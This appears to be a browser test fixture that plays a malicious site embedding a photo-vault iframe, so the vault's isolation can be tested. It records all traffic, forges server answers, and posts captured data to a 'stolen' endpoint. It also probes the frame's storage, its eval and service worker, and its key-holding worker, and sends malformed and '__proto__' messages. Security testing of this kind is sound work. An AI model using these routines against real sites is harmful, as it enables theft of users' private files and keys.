// A site that embeds the vault and wants the photos. It speaks the element's part itself, so that it sees every message
// and every byte that the vault hands out, and it keeps all of them.

const frame = document.createElement('iframe');
const heard = []; // everything that came over the line, Blobs included
let port;
let next = 1;
let vault;
let said = 0; // how often the vault said that it is ready

/** Embeds the vault and connects to it. */
window.embed = async () => {
  vault = new URL((await (await fetch('v1')).json()).vault);
  addEventListener('message', ({ source, data }) => {
    heard.push(data);
    if (source !== frame.contentWindow || data?.op !== 'ready' || said++ > 0) return;
    const channel = new MessageChannel();
    port = channel.port1;
    port.onmessage = ({ data: message }) => hear(message);
    frame.contentWindow.postMessage({ safelight: 1, op: 'connect' }, '*', [channel.port2]);
    window.task({ task: 'filter', filter: 'mean', params: { radius: '1' } });
  });
  frame.id = 'vault';
  frame.width = 900;
  frame.height = 1200;
  frame.src = vault;
  document.querySelector('main').append(frame);
};

window.send = (message) => port.postMessage(message);
window.task = (args) => port.postMessage({ v: 1, op: 'task', args });
window.open_ = (file) => port.postMessage({ v: 1, op: 'open', args: { file } });

let answer = null; // what to give as the server's answer, if not the server's answer
window.answerWith = (bytes) => (answer = bytes && new Blob([Uint8Array.from(bytes)]));

async function hear(message) {
  heard.push(message);
  if (message.op === 'ready') document.documentElement.dataset.ready = 'yes';
  if (message.op !== 'carry') return;
  const { filter, params, file } = message.args;
  const honest = async () => {
    const target = `v1/filters/${filter}?${new URLSearchParams(params)}`;
    return (await fetch(target, { method: 'POST', body: file, headers: { 'Content-Type': 'application/vnd.safelight' } })).blob();
  };
  port.postMessage({ v: 1, id: message.id, value: { file: answer ?? (await honest()) } });
}

/** Sends everything that was heard to the network, as a thief would. */
window.steal = async () => {
  const blobs = [];
  const text = JSON.stringify(heard, (_, value) => (value instanceof Blob ? (blobs.push(value), 'a Blob') : value));
  for (const part of [text, ...blobs]) await fetch('v1/stolen', { method: 'POST', body: part });
  return heard.length;
};

window.heard = (op) => heard.filter((message) => message?.op === op).map(({ args }) => JSON.parse(JSON.stringify(args)));

/** Tries whatever a page can try on a frame and on this browser's storage. Gives what it got, by name. */
window.grab = async () => {
  const got = {};
  const attempt = async (name, act) => {
    try {
      const value = await act();
      if (value !== undefined && value !== null && value !== false) got[name] = String(value).slice(0, 200);
    } catch {
      // refused
    }
  };
  const inner = frame.contentWindow;
  await attempt('contentDocument', () => frame.contentDocument);
  await attempt('document', () => inner.document);
  await attempt('body', () => inner.document.body.innerHTML);
  await attempt('location', () => inner.location.href);
  await attempt('storage', () => inner.localStorage);
  await attempt('database', () => inner.indexedDB);
  await attempt('caches', () => inner.caches);
  await attempt('eval', () => inner.eval('1'));
  await attempt('name', () => inner.name);
  await attempt('a script', () => (inner.location = 'javascript:alert(1)') && null);
  await attempt('own databases', async () => (await indexedDB.databases()).map(({ name }) => name).join() || null);
  await attempt('own caches', async () => (await caches.keys()).join() || null);
  await attempt('own storage', () => Object.keys(localStorage).join() || null);
  await attempt(
    'a worker',
    () =>
      new Promise((started, refused) => {
        const worker = new Worker(new URL('client/keeper.js', vault), { type: 'module' });
        worker.onmessage = () => started('it runs');
        worker.onerror = refused;
        worker.postMessage({ v: 1, id: 1, op: 'keys', args: {} });
        setTimeout(refused, 2000);
      }),
  );
  await attempt('the script', async () => (await fetch(new URL('client/keeper.js', vault))).text());
  await attempt('the module', () => import(new URL('client/keeper.js', vault).href));
  await attempt('its service worker', () => navigator.serviceWorker.register(new URL('sw.js', vault)));
  await attempt('the ring’s news', () => {
    const news = new BroadcastChannel('safelight-ring');
    news.postMessage({ deleted: 'x' });
    return null;
  });
  return got;
};

/** Messages that no honest element sends; each must be dropped. */
window.nonsense = () => {
  const messages = [
    null,
    'exportKey',
    { v: 99, op: 'task', args: {} },
    { v: 1, op: 'exportKey', id: 1, args: {} },
    { v: 1, op: 'saveKey', args: {} },
    { v: 1, op: 'constructor', args: {} },
    { v: 1, op: '__proto__', id: 2, args: {} },
    { v: 1, id: 'x', op: 'task', args: {} },
    { v: 1, op: 'task', args: null },
    { v: 1, op: 'task', args: { filter: 5 } },
    { v: 1, op: 'task', args: { filter: 'x'.repeat(20_000) } },
    { v: 1, op: 'task', args: { filter: 'mean', params: { radius: {} } } },
    { v: 1, op: 'task', args: { filter: 'mean', border: 'no such' } },
    { v: 1, op: 'open', args: { file: 'not a Blob' } },
    { v: 1, id: 7, value: { file: 'an answer that nobody asked for' } },
    { v: 1, id: 1, progress: 'x' },
  ];
  for (const message of messages) port.postMessage(message);
};

/** Another window on this page speaks to the vault. */
window.spoof = () => {
  const { port2 } = new MessageChannel();
  frame.contentWindow.postMessage({ safelight: 1, op: 'connect' }, '*', [port2]);
};

window.navigate = (tail) => (frame.src = new URL(tail, vault));
